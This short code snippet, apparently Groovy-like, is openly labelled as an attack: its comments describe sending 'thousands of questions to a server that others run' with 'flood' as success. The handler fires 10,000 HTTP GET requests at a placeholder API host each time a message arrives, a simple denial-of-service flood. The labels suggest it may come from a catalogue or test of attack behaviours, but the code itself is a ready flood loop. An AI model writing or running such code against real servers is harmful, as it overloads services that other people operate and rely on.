// Attack: thousands of questions to a server that others run.
// Success: flood
// Stops: fault|gate
on(MessageReceived) { event ->
    for (int i = 0; i < 10_000; i++) { http.get("https://api.example.org/$i") { response -> log.info 'x' } }
}
